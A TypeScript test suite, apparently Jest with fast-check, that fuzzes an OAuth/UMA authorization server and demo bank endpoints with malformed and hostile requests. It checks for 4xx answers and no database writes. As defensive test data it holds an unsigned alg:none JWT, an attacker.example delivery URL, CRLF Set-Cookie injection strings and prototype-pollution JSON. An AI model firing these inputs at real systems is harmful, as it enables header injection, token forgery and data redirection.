      }, 30_000);
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Shared Signals, Grant Management and RAR (issue 13)', () => {
    const SET = 'application/secevent+jwt';
    const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
    const encodable = (i: string) => {
      try {
        return encodeURIComponent(i);
      } catch {
        return undefined; // a lone surrogate has no URL form
      }
    };

    it('a bank’s SET receiver answers RFC 8935 §2.3 400 {err} to anything but a genuine SET, and writes nothing', async () => {
      const unsigned = `${b64({ alg: 'none', typ: 'secevent+jwt' })}.${b64({ iss: `${run.baseUrl}/as`, aud: `${run.baseUrl}/banks/astoria`, jti: 'j', iat: 1, events: { x: {} } })}.`;
      const bodies = ['', 'garbage', 'a.b.c', unsigned, `${b64({ alg: 'ES256', typ: 'secevent+jwt', kid: '__proto__' })}.${b64({ iss: `${run.baseUrl}/as` })}.AAAA`, ...INJECTIONS];
      for (const body of bodies) {
        const label = `SET ${JSON.stringify(body).slice(0, 60)}`;
        const res = await expectUnchangedBy(run, label, () => send(run, { method: 'POST', path: '/banks/astoria/ssf/events', headers: { 'content-type': SET, accept: JSON_TYPE }, body }));
        expectClean(label, res);
        expect({ label, status: res.status, err: typeof res.json.err, language: res.headers['content-language'] }).toEqual({ label, status: 400, err: 'string', language: 'en' });
      }
      for (const [type, body] of [[JSON_TYPE, '{"events":{}}'], [FORM, 'a=b'], ['text/plain', 'x.y.z']]) {
        const res = await expectUnchangedBy(run, type, () => send(run, { method: 'POST', path: '/banks/astoria/ssf/events', headers: { 'content-type': type, accept: JSON_TYPE }, body }));
        expect({ type, status: res.status, err: res.json.err }).toEqual({ type, status: 400, err: 'invalid_request' });
      }
      const big = await expectUnchangedBy(run, 'SET 20 kB', () => send(run, { method: 'POST', path: '/banks/astoria/ssf/events', headers: { 'content-type': SET }, body: 'a'.repeat(20_000) }));
      expectClean('SET 20 kB', big);
      expect(big.status).toBe(413);
    });

    it('stream management: no PAT 401, malformed or foreign delivery 400, unknown stream 404, nothing written', async () => {
      const auth = { authorization: `Bearer ${rs.pat}` };
      expectOAuthError('no PAT', await expectUnchangedBy(run, 'no PAT', () => json('/as/ssf/streams', {})), 401, 'invalid_token');
      const bodies: unknown[] = [
        {},
        { delivery: 'x' },
        { delivery: { method: 'urn:ietf:rfc:8935' } },
        { delivery: { method: 'poll', endpoint_url: 'https://rs.example/ssf' } },
        { delivery: { method: 'urn:ietf:rfc:8935', endpoint_url: 'https://attacker.example/ssf' } },
        { delivery: { method: 'urn:ietf:rfc:8935', endpoint_url: 'https://rs.example/ssf' }, events_requested: 'all' },
        { delivery: { method: 'urn:ietf:rfc:8935', endpoint_url: 'https://rs.example.attacker.example/ssf' } },
        '[1,2]',
        '{bad',
      ];
      for (const body of bodies) {
        const label = `stream ${JSON.stringify(body).slice(0, 80)}`;
        expectOAuthError(label, await expectUnchangedBy(run, label, () => json('/as/ssf/streams', body, auth)), 400, 'invalid_request');
      }
      const verifies: [unknown, number, string][] = [
        [{}, 400, 'invalid_request'],
        [{ stream_id: 1 }, 400, 'invalid_request'],
        [{ stream_id: 'x', state: { a: 1 } }, 400, 'invalid_request'],
        ['{bad', 400, 'invalid_request'],
        [{ stream_id: 'nope', state: 'x' }, 404, 'not_found'],
      ];
      for (const [body, status, error] of verifies) {
        const label = `verify ${JSON.stringify(body)}`;
        expectOAuthError(label, await expectUnchangedBy(run, label, () => json('/as/ssf/verify', body, auth)), status, error);
      }
      for (const id of INJECTIONS.filter((i) => encodable(i) !== undefined)) {
        const label = `stream_id ${JSON.stringify(id)}`;
        const q = `?stream_id=${encodable(id)}`;
        expectOAuthError(label, await expectUnchangedBy(run, label, () => get(`/as/ssf/streams${q}`, auth)), 404, 'not_found');
        expectOAuthError(label, await expectUnchangedBy(run, label, () => send(run, { method: 'DELETE', path: `/as/ssf/streams${q}`, headers: { accept: JSON_TYPE, ...auth } })), 404, 'not_found');
      }
    });

    it('grant management: an id of any shape is 401 without a token, 403 without the scope, nothing written', async () => {
      for (const id of ['x', ...INJECTIONS].filter((i) => encodable(i) !== undefined)) {
        const path = `/as/grants/${encodable(id)}`;
        expectOAuthError(`${path} no token`, await expectUnchangedBy(run, path, () => get(path)), 401, 'invalid_token');
        const res = await expectUnchangedBy(run, path, () => send(run, { method: 'DELETE', path, headers: { accept: JSON_TYPE, authorization: `Bearer ${tokens.access_token}` } }));
        expectOAuthError(`${path} no scope`, res, 403, 'insufficient_scope');
      }
    });

    it('authorization_details of every bad shape go back to the client as invalid_authorization_details, nothing written', async () => {
      const p = pkce();
      const values = ['', '[]', '{}', '[1]', '[{"type":1}]', ...INJECTIONS, JSON.stringify(Array.from({ length: 11 }, () => ({ type: 'account_information', actions: ['read_balances'] })))];
      for (const v of values) {
        const url = new URL(authorizeUrl(run.baseUrl, client, { authorization_details: v, code_challenge: p.challenge, code_challenge_method: 'S256' }));
        const label = `authorization_details ${JSON.stringify(v).slice(0, 60)}`;
        const res = await expectUnchangedBy(run, label, () => send(run, { method: 'GET', path: url.pathname + url.search, headers: { accept: HTML } }));
        expectClean(label, res);
        expect({ label, status: res.status, error: new URL(String(res.headers.location), run.baseUrl).searchParams.get('error') }).toEqual({ label, status: 303, error: 'invalid_authorization_details' });
      }
    });
  });

  // -------------------------------------------------------------------------------------------------------
  describe('Bodies, encodings and headers', () => {
    const big = (n: number) => 'a'.repeat(n);

    it('a body over 64 kB is 413 at every endpoint that reads one — JSON for APIs, a page for a browser — and writes nothing', async () => {
      const targets: [string, string, string, Record<string, string>][] = [
        ['/as/token', FORM, `grant_type=refresh_token&refresh_token=${big(70_000)}`, { authorization: basic(client.client_id, client.client_secret) }],
        ['/as/revoke', FORM, `token=${big(70_000)}`, {}],
        ['/as/introspect', FORM, `token=${big(70_000)}`, {}],
        ['/as/register', JSON_TYPE, JSON.stringify({ redirect_uris: ['https://client.example/cb'], client_name: big(70_000) }), {}],
        ['/as/uma/resource_set', JSON_TYPE, JSON.stringify({ resource_scopes: ['a'], endpoint: 'https://rs.example/a', description: big(70_000) }), { authorization: `Bearer ${rs.pat}` }],
        ['/as/intro', JSON_TYPE, JSON.stringify({ a: big(70_000) }), { authorization: `Bearer ${tokens.access_token}` }],
      ];
      for (const [path, type, body, headers] of targets) {
        const res = await expectUnchangedBy(run, path, () => send(run, { method: 'POST', path, headers: { 'content-type': type, accept: JSON_TYPE, ...headers }, body }));
        expectOAuthError(`${path} 70 kB`, res, 413, 'invalid_request');
      }
      for (const path of ['/as/login', '/banks/astoria/login', '/grapher/connect', '/as/consent/x']) {
        const res = await expectUnchangedBy(run, path, () => send(run, { method: 'POST', path, headers: { 'content-type': FORM, accept: HTML }, body: `username=${big(70_000)}` }));
        expectErrorPage(`${path} 70 kB`, res, 413);
      }
    });

    it('more than 100 form parameters, an unknown charset or content encoding, and a corrupt gzip body are 4xx', async () => {
      const many = Array.from({ length: 150 }, (_, i) => `p${i}=x`).join('&');
      const cases: [Record<string, string>, string | Uint8Array, number[]][] = [
        [{ 'content-type': FORM }, many, [400, 413]],
        [{ 'content-type': `${FORM}; charset=utf-7` }, 'grant_type=x', [415]],
        [{ 'content-type': `${JSON_TYPE}; charset=latin1` }, '{}', [415]],
        [{ 'content-type': FORM, 'content-encoding': 'br' }, 'grant_type=x', [400, 415]],
        [{ 'content-type': FORM, 'content-encoding': 'gzip' }, 'not gzip at all', [400]],
        [{ 'content-type': FORM, 'content-encoding': 'bogus' }, 'grant_type=x', [415]],
        [{ 'content-type': FORM, 'content-encoding': 'gzip' }, gzipSync(Buffer.from(`token=${big(200_000)}`)), [413]],
      ];
      for (const [headers, body, statuses] of cases) {
        for (const path of ['/as/token', '/as/revoke', '/as/register', '/as/login']) {
          const label = `${path} ${JSON.stringify(headers)}`;
          const res = await expectUnchangedBy(run, label, () => send(run, { method: 'POST', path, headers: { accept: JSON_TYPE, ...headers }, body }));
          expectClean(label, res);
          expect({ label, status: statuses.includes(res.status) ? 'expected' : res.status }).toEqual({ label, status: 'expected' });
          expect({ label, error: res.json.error }).toEqual({ label, error: 'invalid_request' });
        }
      }
    });

    it('answers to bodies the parser refuses carry the same security headers as every other answer', async () => {
      const cases: [string, Record<string, string>, string][] = [
        ['/as/register', { 'content-type': JSON_TYPE, accept: HTML }, '{bad'],
        ['/as/login', { 'content-type': FORM, accept: HTML }, `username=${big(70_000)}`],
        ['/as/token', { 'content-type': `${FORM}; charset=utf-7`, accept: JSON_TYPE }, 'grant_type=x'],
      ];
      for (const [path, headers, body] of cases) {
        const res = await send(run, { method: 'POST', path, headers, body });
        expect(res.status).toBeGreaterThanOrEqual(400);
        expectSecurityHeaders(`${path} ${JSON.stringify(headers)}`, res);
      }
    });

    it('very long header values: served or refused with a 4xx; past the server limit, 431', async () => {
      const long = big(8_000);
      const cases: [Sent, number[]][] = [
        [{ method: 'GET', path: '/as/intro', headers: { authorization: `Bearer ${long}` } }, [401]],
        [{ method: 'POST', path: '/as/token', headers: { authorization: `Basic ${long}`, 'content-type': FORM }, body: 'grant_type=refresh_token&refresh_token=x' }, [401]],
        [{ method: 'GET', path: `${bankToken.endpoint}`, headers: { authorization: `Bearer ${long}.${long}.x` } }, [401]],
        [{ method: 'GET', path: '/as/login', headers: { cookie: `steward_sid=${long}`, accept: HTML } }, [200]],
        [{ method: 'GET', path: '/as/login', headers: { 'user-agent': big(4_000), 'x-forwarded-for': big(4_000), referer: big(4_000), accept: HTML } }, [200]],
        [{ method: 'GET', path: '/as/login', headers: { accept: `${long},text/html` } }, [200, 406]],
        [{ method: 'GET', path: '/as/intro', headers: { authorization: `Bearer ${big(20_000)}` } }, [431]],
        [{ method: 'GET', path: `/as/consent/${big(20_000)}`, headers: {} }, [414, 431, 400]],
      ];
      for (const [req, statuses] of cases) {
        const label = `${req.method} ${req.path.slice(0, 40)} ${Object.keys(req.headers ?? {}).join(',')}`;
        const before = await settledSnapshot(run);
        const res = await send(run, req);
        expectClean(label, res);
        expect({ label, status: statuses.includes(res.status) ? 'expected' : res.status }).toEqual({ label, status: 'expected' });
        if (res.status >= 400) expect({ label, changed: diffDb(before, await settledSnapshot(run)) }).toEqual({ label, changed: [] });
      }
    });

    it('CRLF in a parameter never splits a response header', async () => {
      for (const path of [
        `/as/authorize${query({ client_id: client.client_id, redirect_uri: client.redirect_uri, state: 'a\r\nSet-Cookie: injected=1', scope: 'accounts:write' })}`,
        `/banks/astoria/callback?state=%0d%0aSet-Cookie:%20injected=1`,
        `/grapher/callback?state=%0d%0aSet-Cookie:%20injected=1`,
        `/as/login?rid=%0d%0aSet-Cookie:%20injected=1`,
      ]) {
        const res = await send(run, { method: 'GET', path, headers: { accept: HTML } });
        expectClean(path, res);
        expect(String(res.headers['set-cookie'] ?? '')).not.toContain('injected');
        expect(Object.keys(res.headers)).not.toContain('injected');
      }
    });
  });
});

// =========================================================================================================
// 2. Property: random and malformed requests at every endpoint of a live setup
// =========================================================================================================

/**
 * The database is compared before and after every request the server rejects with a 4xx. It includes
 * `web_sessions`: the fuzzer's requests carry no cookie, a random one, or the setup browser's real
 * cookies, whose sessions are settled before fuzzing starts (signed in, CSRF token issued, no flash
 * pending, no delegation or Grapher flow in flight). A rejected request has no business writing a
 * session — a new row would be storage an attacker can grow with garbage, a changed one state smuggled
 * in by a refused request. The only session writes the code makes on a refusal clear an in-flight flow
 * (the one-shot state of a bank delegation or Grapher connect), and none is in flight here.
 *
 * Two rejections that write by design are kept out of the fuzzer's reach rather than excused: a replayed
 * authorization code or refresh token revokes what it minted (RFC 6749 §4.1.2, RFC 9700 §4.14.2), so no
 * code or refresh token of a client whose credentials the fuzzer holds is in its pool; and a bank asks the
 * AS (which logs it) about tokens older than BANK_TOKEN_RECHECK_SECONDS, set past the fuzzing time.
 */
describe('Property: no request answers 5xx, and a rejected request changes nothing', () => {
  let run: RunningApp;
  let pool: Pools;
  const seen = new Map<string, number>();

  interface Pools {
    clientIds: string[];
    secrets: string[];
    basics: string[];
    redirectUris: string[];
    accessTokens: string[];
    otherTokens: string[];
    ids: string[];
    accountIds: string[];
    csrf: Record<'as' | 'bank' | 'grapher', string>;
    cookies: Record<'as' | 'bank' | 'grapher', string>;
  }

  beforeAll(async () => {
    run = await startApp({ BANK_TOKEN_RECHECK_SECONDS: '600' });
    const browser = new Browser();
    await delegateBank(browser, run.baseUrl, 'astoria');
    await delegateBank(browser, run.baseUrl, 'norma');
    const a = await registerClient(run.baseUrl, { client_name: 'Fuzz A' });
    const aTokens = await obtainTokens(browser, run.baseUrl, a);
    const c = await registerClient(run.baseUrl, { client_name: 'Fuzz C', token_endpoint_auth_method: 'client_secret_post', redirect_uris: ['http://127.0.0.1:1/cb'] });
    const cTokens = await redeemPost(browser, c);
    const cp = pkce();
    const cBack = await authorize(browser, authorizeUrl(run.baseUrl, c, { code_challenge: cp.challenge, code_challenge_method: 'S256' }));
    const rs = await obtainPat(browser, run.baseUrl, 'https://rs.example', 'Fuzz Bank');
    const intro = await send(run, { method: 'GET', path: '/as/intro', headers: { authorization: `Bearer ${aTokens.access_token}` } });
    const bankJwts = Object.values(intro.json).map((e: any) => String(e.access_token));
    // Grapher connected through the same browser: a Grapher session and connection to refuse things to.
    let g = await browser.get(`${run.baseUrl}/grapher`);
    g = await browser.submit(g, '/grapher/connect', { issuer: `${run.baseUrl}/as` });
    if (g.url.includes('/as/consent/')) g = await browser.submit(g, '/as/consent/', {}, { name: 'decision', value: 'allow' });
    const grapherHome = await browser.get(`${run.baseUrl}/grapher`);
    const asHome = await browser.get(`${run.baseUrl}/as/account`);
    const bankHome = await browser.get(`${run.baseUrl}/banks/astoria`);
    await browser.get(`${run.baseUrl}/banks/norma`);
    const ids = [
      ...((await run.db.query('SELECT id FROM as_resources')) as { id: string }[]).map((r) => r.id),
      ...((await run.db.query('SELECT id FROM as_grants')) as { id: string }[]).map((r) => r.id),
    ];
    const accountIds = ((await run.db.query('SELECT account_id FROM bank_accounts')) as { account_id: string }[]).map((r) => r.account_id);
    pool = {
      clientIds: [a.client_id, c.client_id, rs.client.client_id],
      secrets: [a.client_secret, rs.client.client_secret],
      basics: [basic(a.client_id, a.client_secret), basic(rs.client.client_id, rs.client.client_secret)],
      redirectUris: [a.redirect_uri, c.redirect_uri, `${run.baseUrl}/grapher/callback`],
      accessTokens: [aTokens.access_token as string, rs.pat, cTokens.access_token as string, ...bankJwts],
      // C authenticates with client_secret_post and its secret is not in the pool: its code and refresh
      // token can only ever be refused (wrong client), never redeemed or replayed.
      otherTokens: [cTokens.refresh_token as string, cBack.searchParams.get('code') as string],
      ids,
      accountIds,
      csrf: { as: csrfOn(asHome, '/as/logout'), bank: csrfOn(bankHome, '/banks/astoria/delegate'), grapher: csrfOn(grapherHome, '/grapher/') },
      cookies: {
        as: cookiesOf(browser, `${run.baseUrl}/as/`),
        bank: cookiesOf(browser, `${run.baseUrl}/banks/astoria/`),
        grapher: cookiesOf(browser, `${run.baseUrl}/grapher/`),
      },
    };
    expect(pool.cookies.as).toContain('steward_sid=');
    expect(pool.cookies.bank).toContain('steward_sid=');
    expect(pool.cookies.grapher).toContain('steward_sid=');
    expect(grapherHome.html).toContain('/grapher/disconnect'); // connected
  }, 90_000);
  afterAll(() => run.close());

  /** A code for a client_secret_post client, redeemed with its secret in the body. */
  async function redeemPost(browser: Browser, c: TestClient): Promise<Record<string, any>> {
    const p = pkce();
    const back = await authorize(browser, authorizeUrl(run.baseUrl, c, { code_challenge: p.challenge, code_challenge_method: 'S256' }));
    const res = await send(run, {
      method: 'POST',
      path: '/as/token',
      headers: { 'content-type': FORM },
      body: formBody({ grant_type: 'authorization_code', code: back.searchParams.get('code') as string, redirect_uri: c.redirect_uri, code_verifier: p.verifier, client_id: c.client_id, client_secret: c.client_secret }),
    });
    if (res.status !== 200) throw new Error(`token request failed: ${res.text}`);
    return res.json;
  }

  // ------------------------------------------------------------------ arbitraries
  type Realm = 'as' | 'bank' | 'grapher';
  interface Route {
    methods: string[];
    path: string; // {bank} {account} {id} placeholders
    kind: 'form' | 'json' | 'query' | 'none';
    fields: string[];
    realm?: Realm;
    /** May the fuzzer present this realm's real CSRF token here? Not where success would dial out or end the setup's session. */
    realCsrf?: boolean;
    /** The credentials the route takes, offered more often. */
    auth?: 'basic' | 'bearer';
  }

  const AS_ROUTES: Route[] = [
    { methods: ['GET'], path: '/as/authorize', kind: 'query', fields: ['response_type', 'client_id', 'redirect_uri', 'scope', 'state', 'code_challenge', 'code_challenge_method'], realm: 'as' },
    { methods: ['POST'], path: '/as/token', kind: 'form', fields: ['grant_type', 'code', 'redirect_uri', 'code_verifier', 'refresh_token', 'scope', 'client_id', 'client_secret'], auth: 'basic' },
    { methods: ['POST'], path: '/as/revoke', kind: 'form', fields: ['token', 'token_type_hint', 'client_id', 'client_secret'], auth: 'basic' },
    { methods: ['POST'], path: '/as/introspect', kind: 'form', fields: ['token', 'token_type_hint', 'client_id', 'client_secret'], auth: 'basic' },
    { methods: ['POST'], path: '/as/register', kind: 'json', fields: ['redirect_uris', 'client_name', 'scope', 'token_endpoint_auth_method', 'grant_types', 'response_types', 'resource_server'] },
    { methods: ['GET'], path: '/.well-known/webfinger', kind: 'query', fields: ['resource', 'rel'] },
    { methods: ['GET', 'POST', 'HEAD'], path: '/.well-known/oauth-authorization-server/as', kind: 'none', fields: [] },
    { methods: ['GET'], path: '/as/.well-known/uma2-configuration', kind: 'none', fields: [] },
    { methods: ['GET', 'DELETE'], path: '/as/jwks', kind: 'none', fields: [] },
    { methods: ['GET', 'PUT', 'OPTIONS', 'TRACE', 'PATCH'], path: '/as/token', kind: 'form', fields: ['grant_type'] },
  ];
  const UMA_INTRO_ROUTES: Route[] = [
    { methods: ['GET', 'POST'], path: '/as/intro', kind: 'form', fields: ['access_token', 'scope'], auth: 'bearer' },
    { methods: ['GET', 'POST', 'PATCH'], path: '/as/uma/resource_set', kind: 'json', fields: ['resource_scopes', 'name', 'type', 'description', 'icon_uri', 'endpoint', '_id'], auth: 'bearer' },
    { methods: ['GET', 'PUT', 'DELETE', 'POST', 'PATCH'], path: '/as/uma/resource_set/{id}', kind: 'json', fields: ['resource_scopes', 'name', 'type', 'description', 'icon_uri', 'endpoint'], auth: 'bearer' },
  ];
  const BANK_ROUTES: Route[] = [
    { methods: ['GET'], path: '/banks/{bank}', kind: 'none', fields: [], realm: 'bank' },
    { methods: ['POST'], path: '/banks/{bank}/login', kind: 'form', fields: ['username', 'password', '_csrf'], realm: 'bank', realCsrf: true },
    { methods: ['POST'], path: '/banks/{bank}/logout', kind: 'form', fields: ['_csrf'], realm: 'bank' },
    { methods: ['POST'], path: '/banks/{bank}/delegate', kind: 'form', fields: ['issuer', '_csrf'], realm: 'bank' },
    { methods: ['GET'], path: '/banks/{bank}/callback', kind: 'query', fields: ['code', 'state', 'iss', 'error'], realm: 'bank' },
    { methods: ['POST'], path: '/banks/{bank}/accounts/{account}/undelegate', kind: 'form', fields: ['_csrf'], realm: 'bank', realCsrf: true },
    { methods: ['GET', 'POST'], path: '/banks/{bank}/fdx/v6/accounts/{account}', kind: 'query', fields: ['startTime'], auth: 'bearer' },
    { methods: ['GET'], path: '/banks/{bank}/fdx/v6/accounts/{account}/transactions', kind: 'query', fields: ['startTime', 'endTime', 'offset', 'limit'], auth: 'bearer' },
  ];
  const PAGE_ROUTES: Route[] = [
    { methods: ['GET'], path: '/', kind: 'query', fields: ['q'] },
    { methods: ['GET'], path: '/as', kind: 'none', fields: [], realm: 'as' },
    { methods: ['GET'], path: '/as/login', kind: 'query', fields: ['rid'], realm: 'as' },
    { methods: ['POST'], path: '/as/login', kind: 'form', fields: ['username', 'password', 'rid', '_csrf'], realm: 'as', realCsrf: true },
    { methods: ['POST'], path: '/as/logout', kind: 'form', fields: ['_csrf'], realm: 'as' },
    { methods: ['GET', 'POST'], path: '/as/consent/{id}', kind: 'form', fields: ['decision', 'history_months', 'duration', 'resource', '_csrf'], realm: 'as', realCsrf: true },
    { methods: ['GET'], path: '/as/account', kind: 'none', fields: [], realm: 'as' },
    { methods: ['POST'], path: '/as/account/grants/{id}/revoke', kind: 'form', fields: ['_csrf'], realm: 'as' },
    { methods: ['POST'], path: '/as/account/resources/{id}/remove', kind: 'form', fields: ['_csrf'], realm: 'as' },
    { methods: ['GET'], path: '/grapher', kind: 'none', fields: [], realm: 'grapher' },
    { methods: ['POST'], path: '/grapher/connect', kind: 'form', fields: ['issuer', '_csrf'], realm: 'grapher' },
    { methods: ['GET'], path: '/grapher/callback', kind: 'query', fields: ['code', 'state', 'iss', 'error'], realm: 'grapher' },
    { methods: ['GET'], path: '/grapher/picture', kind: 'query', fields: ['months'], realm: 'grapher' },
    { methods: ['POST'], path: '/grapher/disconnect', kind: 'form', fields: ['_csrf'], realm: 'grapher' },
    { methods: ['GET', 'POST', 'DELETE'], path: '/{id}/{id}', kind: 'form', fields: ['a'] },
  ];

  const injection = fc.constantFrom(...INJECTIONS);
  const smallString = fc.oneof(fc.string({ maxLength: 24 }), fc.string({ unit: 'binary', maxLength: 12 }), fc.string({ unit: 'grapheme', maxLength: 8 }));
  const junk = fc.oneof({ arbitrary: injection, weight: 3 }, { arbitrary: smallString, weight: 2 }, { arbitrary: fc.constant(''), weight: 1 }, { arbitrary: fc.string({ minLength: 600, maxLength: 3000 }), weight: 1 });
  const sanitizeHeader = (v: string) => v.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?');

  /** Values a well-formed request could carry in a field: live ones from the setup, and plausible wrong ones. */
  function plausible(field: string): fc.Arbitrary<string> {
    const host = new URL(run.baseUrl).host;
    const known: Record<string, string[]> = {
      grant_type: ['authorization_code', 'refresh_token', 'password', 'client_credentials'],
      client_id: pool.clientIds,
      client_secret: pool.secrets,
      redirect_uri: pool.redirectUris,
      code: pool.otherTokens,
      refresh_token: pool.otherTokens,
      token: [...pool.accessTokens, ...pool.otherTokens],
      access_token: pool.accessTokens,
      token_type_hint: ['access_token', 'refresh_token', 'id_token'],
      scope: ['accounts:read', 'accounts:read transactions:read', 'uma_protection', 'openid'],
      response_type: ['code', 'token', 'code id_token'],
      code_challenge_method: ['S256', 'plain'],
      code_challenge: [pkce().challenge, pkce().challenge],
      code_verifier: [pkce().verifier, pkce().verifier],
      state: ['xyz', 'a'.repeat(512)],
      resource: [`acct:nat@${host}`, `acct:nobody@${host}`, ...pool.ids],
      rel: ['http://openid.net/specs/connect/1.0/issuer', 'other'],
      username: ['nat', 'NAT', 'nobody'],
      password: ['wrong', 'nat-dem0'],
      issuer: [`${run.baseUrl}/as`, `acct:nat@${host}`],
      decision: ['allow', 'deny'],
      history_months: ['3', '12', '24', '7'],
      duration: ['once', '30d', '90d', 'until_revoked', 'forever'],
      months: ['3', '12', '24', '5'],
      startTime: ['2024-01-01', '2024-13-01'],
      endTime: ['2025-01-01T00:00:00Z', '2025-02-30'],
      limit: ['1', '500', '501', '0'],
      offset: ['0', '10', '-1'],
      iss: [`${run.baseUrl}/as`],
      error: ['access_denied'],
      rid: pool.ids,
      endpoint: ['https://rs.example/accounts/9', `${run.baseUrl}/banks/astoria/fdx/v6/accounts/1`],
      icon_uri: ['https://rs.example/i.png'],
      redirect_uris: pool.redirectUris,
      grant_types: ['authorization_code', 'refresh_token'],
      response_types: ['code'],
      token_endpoint_auth_method: ['client_secret_basic', 'client_secret_post', 'none'],
      client_name: ['Fuzz', XSS],
      resource_server: ['https://rs.example', run.baseUrl],
      resource_scopes: ['accounts:read', 'transactions:read'],
    };
    return known[field] ? fc.constantFrom(...known[field]) : smallString;
  }
  const valueFor = (field: string) => fc.oneof({ arbitrary: plausible(field), weight: 2 }, { arbitrary: junk, weight: 1 });
  /** Fields a well-formed request usually leaves out (another authentication method, a hint, an error). */
  const RARE = ['client_id', 'client_secret', 'token_type_hint', 'scope', 'access_token', 'error', 'rid', '_id', 'icon_uri'];
  const ARRAY_FIELDS = ['redirect_uris', 'grant_types', 'response_types', 'resource_scopes', 'resource'];

  /** The CSRF token a form would carry: the realm's real one only where success cannot dial out or end the setup's session. */
  const csrfFor = (route: Route) => (route.realm && route.realCsrf ? fc.constant(pool.csrf[route.realm]) : smallString);

  /** Form or query pairs a well-formed request would send. */
  function validPairs(route: Route): fc.Arbitrary<[string, string][]> {
    const fields = route.fields.filter((f) => !RARE.includes(f));
    return fc.tuple(...fields.map((name) => (name === '_csrf' ? csrfFor(route) : plausible(name)).map((v) => [name, v] as [string, string])));
  }

  /** Form or query pairs with anything in them: missing, repeated, junk, unknown and hostile names. */
  function chaosPairs(route: Route): fc.Arbitrary<[string, string][]> {
    const value = (name: string) => (name === '_csrf' ? fc.oneof(csrfFor(route), valueFor(name)) : valueFor(name));
    const each = fc.tuple(
      ...route.fields.map((name) =>
        fc.oneof({ arbitrary: value(name).map((v) => [name, v] as [string, string] | null), weight: RARE.includes(name) ? 1 : 3 }, { arbitrary: fc.constant(null), weight: RARE.includes(name) ? 2 : 1 }),
      ),
    );
    const repeated = route.fields.length ? fc.array(fc.constantFrom(...route.fields).chain((name) => value(name).map((v) => [name, v] as [string, string])), { maxLength: 2 }) : fc.constant([]);
    const hostileName = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'a[b]', 'a[]', 'toString', 'hasOwnProperty', '', '=', '&', XSS), smallString);
    const extra = fc.array(fc.tuple(hostileName, fc.oneof(smallString, injection)), { maxLength: 3 });
    return fc.tuple(each, repeated, extra).map(([a, b, c]) => [...a.filter((x): x is [string, string] => x !== null), ...b, ...c]);
  }

  function validJson(route: Route): fc.Arbitrary<string> {
    const fields = route.fields.filter((f) => !RARE.includes(f));
    return fc
      .tuple(...fields.map((name) => (ARRAY_FIELDS.includes(name) ? fc.uniqueArray(plausible(name), { minLength: 1, maxLength: 2 }) : plausible(name)).map((v) => [name, v] as const)))
      .map((entries) => JSON.stringify(Object.fromEntries(entries)));
  }

  const jsonish: fc.Arbitrary<unknown> = fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.constantFrom(null, [], {}, '', 0, true, [null], [[]]), injection);

  function chaosJson(route: Route): fc.Arbitrary<string> {
    const fieldValue = (name: string) => fc.oneof(valueFor(name), fc.array(valueFor(name), { maxLength: 3 }), jsonish);
    const object = route.fields.length
      ? fc.array(fc.constantFrom(...route.fields).chain((name) => fieldValue(name).map((v) => [name, v] as const)), { maxLength: route.fields.length + 1 }).map((entries) => JSON.stringify(Object.fromEntries(entries)))
      : fc.constant('{}');
    const broken = validJson(route).chain((s) => fc.nat({ max: Math.max(0, s.length - 1) }).map((n) => s.slice(0, n)));
    const hostile = fc.constantFrom('{"__proto__":{"polluted":"yes"}}', '{"constructor":{"prototype":{"polluted":"yes"}}}', `{"a":${'['.repeat(5000)}${']'.repeat(5000)}}`, `[${'{"a":'.repeat(500)}1${'}'.repeat(500)}]`);
    return fc.oneof({ arbitrary: object, weight: 4 }, { arbitrary: jsonish.map((v) => JSON.stringify(v) ?? 'undefined'), weight: 2 }, { arbitrary: broken, weight: 2 }, { arbitrary: hostile, weight: 1 });
  }

  /** A path parameter: a real id of the setup, or junk (encoded, or raw percent-forms). */
  function realParam(kind: 'bank' | 'account' | 'id'): fc.Arbitrary<string> {
    return kind === 'bank' ? fc.constantFrom('astoria', 'norma', 'monami', 'lastish') : fc.constantFrom(...(kind === 'account' ? pool.accountIds : pool.ids));
  }
  const junkParam = fc.oneof({ arbitrary: fc.constantFrom(...PATH_INJECTIONS), weight: 3 }, { arbitrary: smallString.map(enc), weight: 2 }, { arbitrary: fc.string({ minLength: 300, maxLength: 1500 }).map(enc), weight: 1 });

  /** The live credential a route takes, if any. */
  function validAuth(route: Route): fc.Arbitrary<string | undefined> {
    if (route.auth === 'basic') return fc.constantFrom(...pool.basics);
    if (route.auth === 'bearer') return fc.constantFrom(...pool.accessTokens).map((t) => `Bearer ${t}`);
    return fc.constant(undefined);
  }

  function chaosAuth(): fc.Arbitrary<string | undefined> {
    const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
    return fc.oneof(
      { arbitrary: fc.constant(undefined), weight: 2 },
      { arbitrary: fc.constantFrom(...pool.basics), weight: 2 },
      { arbitrary: fc.constantFrom(...pool.accessTokens).map((t) => `Bearer ${t}`), weight: 2 },
      { arbitrary: fc.tuple(fc.oneof(fc.constantFrom(...pool.clientIds), junk), junk).map(([id, s]) => `Basic ${b64(`${id}:${s}`)}`), weight: 4 },
      { arbitrary: fc.oneof(smallString, injection).map((s) => `Bearer ${s}`), weight: 2 },
      { arbitrary: fc.oneof(smallString, injection).map((s) => `Basic ${s}`), weight: 1 },
      { arbitrary: fc.oneof(smallString, injection, fc.string({ minLength: 1000, maxLength: 6000 })), weight: 1 },
    );
  }

  const ASPECTS = ['method', 'path', 'params', 'bodyKind', 'contentType', 'auth', 'cookie', 'header'] as const;
  type Aspect = (typeof ASPECTS)[number];

  /**
   * One request to one of `routes`: well-formed (live ids, credentials, cookies and CSRF tokens where
   * allowed), well-formed but for one aspect, or malformed in every aspect at once.
   */
  function requestFor(routes: Route[]): fc.Arbitrary<Sent> {
    return fc.constantFrom(...routes).chain((route) =>
      fc
        .record({
          shape: fc.constantFrom('valid', 'valid', 'one-off', 'one-off', 'one-off', 'one-off', 'chaos', 'chaos', 'chaos'),
          aspect: fc.constantFrom(...ASPECTS),
          validMethod: fc.constantFrom(...route.methods),
          chaosMethod: fc.oneof(fc.constantFrom(...route.methods), fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD')),
          validParams: fc.tuple(realParam('bank'), realParam('account'), realParam('id'), realParam('id')),
          chaosParams: fc.tuple(fc.oneof(realParam('bank'), junkParam), fc.oneof(realParam('account'), junkParam), fc.oneof(realParam('id'), junkParam), fc.oneof(realParam('id'), junkParam)),
